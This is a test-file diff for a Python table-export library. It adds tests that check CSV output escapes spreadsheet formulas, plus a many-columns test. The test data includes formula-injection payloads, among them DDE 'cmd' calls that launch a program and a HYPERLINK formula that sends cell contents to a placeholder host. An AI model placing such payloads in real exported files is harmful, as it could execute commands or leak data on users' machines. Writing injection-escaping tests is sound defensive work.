@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 from collections.abc import Iterator
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
@@ -18,7 +19,7 @@ from hypothesis import strategies as st
 from pyarrow import ipc
 
 from llmhub.core.errors import BadRequestError
-from llmhub.tables.files import FILE_FORMATS, read_table, require_writable, write_table
+from llmhub.tables.files import FILE_FORMATS, FORMULA, read_table, require_writable, write_table
 from llmhub.tables.frames import join_results, join_schemas
 from llmhub.tables.schema import RESULTS
 
@@ -85,7 +86,8 @@ def test_csv_contains_every_value_as_text(folder: Path, table: pa.Table) -> None
         found = list(csv.DictReader(file))
     assert len(found) == len(table)
     for expected, row in zip(table.to_pylist(), found, strict=True):
-        assert row["text"] == (expected["text"] or "")
+        text = expected["text"] or ""
+        assert row["text"] in ({text} if not re.match(FORMULA, text, re.ASCII) else {f"'{text}"})
         assert row["number"] == ("" if expected["number"] is None else str(expected["number"]))
         assert row["share"] == "" if expected["share"] is None else float(row["share"]) == expected["share"]
         assert row["key"] == ("" if expected["key"] is None else expected["key"].hex())
@@ -225,3 +227,36 @@ def test_joined_results_have_the_metadata_of_both_tables() -> None:
     joined = join_results(source, results, "")
     assert joined.to_pydict() == {"q": ["a", "a", "b"], "row": [0, 0, 1], "x": [1, 2, 3]}
     assert joined.schema.metadata == {b"mine": b"1", b"run_id": b"r1"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        '=HYPERLINK("http://x.invalid/"&A1)',
+        " \t=cmd|'/C calc'!A0",
+        "\r=1",
+        "@SUM(A1:A9)",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+    ],
+)
+def test_formulas_are_written_as_text(tmp_path: Path, text: str) -> None:
+    write_table(pa.table({"response": [text]}), tmp_path / "a.csv", "OUTPUT")
+    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
+        assert list(csv.reader(file))[1] == [f"'{text}"]
+
+
+@pytest.mark.parametrize(
+    "text", ["- a list\n- of items", "@user well said", "-5", "+1", "-1.5e3", "'=' is a sign", "a = b", ""]
+)
+def test_other_text_is_written_as_it_is(tmp_path: Path, text: str) -> None:
+    write_table(pa.table({"response": [text]}), tmp_path / "a.csv", "OUTPUT")
+    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
+        assert list(csv.reader(file))[1:] == [[text]]
+
+
+def test_file_may_have_many_columns(tmp_path: Path) -> None:
+    table = pa.table({f"c{index}": [index] for index in range(20_000)})
+    write_table(table, tmp_path / "a.arrow", "OUTPUT")
+    assert read_table(tmp_path / "a.arrow", "INPUT").num_columns == 20_000
